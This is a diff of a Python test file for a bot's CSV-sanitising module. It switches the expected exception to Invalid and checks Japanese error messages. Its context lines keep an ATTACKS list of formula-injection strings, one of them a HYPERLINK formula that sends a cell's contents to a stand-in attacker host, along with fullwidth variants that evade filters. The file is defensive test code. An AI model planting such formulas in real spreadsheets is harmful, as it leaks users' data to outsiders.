@@ -9,6 +9,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from bot import csvsafe
+from bot.core.problems import Invalid
 
 ATTACKS = ['=HYPERLINK("http://ev.il/?"&A2,"x")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1",
            "＝HYPERLINK(\"http://ev.il\")", "＋1", "－1", "＠SUM(A1)"]
@@ -57,21 +58,21 @@ def test_shift_jis_is_read_and_named():
 
 def test_a_cell_of_200000_characters_is_a_clear_error():
     raw = ("識別名,回答\r\nlunch," + "あ" * 200_000 + "\r\n").encode("utf-8-sig")
-    with pytest.raises(csvsafe.CsvUnreadable, match="2行目に長すぎるセル"):
+    with pytest.raises(Invalid, match="2行目に長すぎるセル"):
         csvsafe.read(raw)
 
 
 def test_nul_is_a_clear_error():
-    with pytest.raises(csvsafe.CsvUnreadable, match="3行目に制御文字"):
+    with pytest.raises(Invalid, match="3行目に制御文字"):
         csvsafe.read("識別名\r\na\r\nb\x00c\r\n".encode())
 
 
 def test_bytes_in_no_known_encoding_are_a_clear_error():
-    with pytest.raises(csvsafe.CsvUnreadable, match="文字コード"):
+    with pytest.raises(Invalid, match="文字コード"):
         csvsafe.read(b"\xff\xfe\x81\x00\xfd")
 
 
 def test_too_many_rows_stop_early():
     raw = csvsafe.to_bytes(["a"], [[str(i)] for i in range(11)])
-    with pytest.raises(csvsafe.CsvUnreadable, match="10件まで"):
+    with pytest.raises(Invalid, match="10件まで"):
         csvsafe.read(raw, max_rows=10)
